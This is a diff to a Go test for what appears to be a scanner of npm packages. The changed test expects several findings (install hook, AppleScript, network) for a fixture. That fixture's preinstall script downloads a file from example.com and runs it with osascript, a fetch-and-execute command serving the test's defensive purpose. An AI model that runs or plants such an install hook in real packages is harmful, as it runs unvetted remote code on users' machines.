@@ -156,8 +156,9 @@ func TestAHookThatItselfRunsAppleScriptIsHigh(t *testing.T) {
 	p := scanPackage(t, map[string]string{
 		"package.json": packageJSON(",\n\"scripts\": {\"preinstall\": \"curl -o /tmp/x example.com && osascript /tmp/x\"}"),
 	})
-	if got := told(t, p, High); !slices.Equal(got, []string{"package.json:2 install-hook"}) {
-		t.Errorf("told %q", got)
+	want := []string{"package.json:2 install-hook", "package.json:2 applescript", "package.json:2 applescript", "package.json:2 network"}
+	if got := told(t, p, High); !slices.Equal(got, want) {
+		t.Errorf("got  %q\nwant %q", got, want)
 	}
 }
 
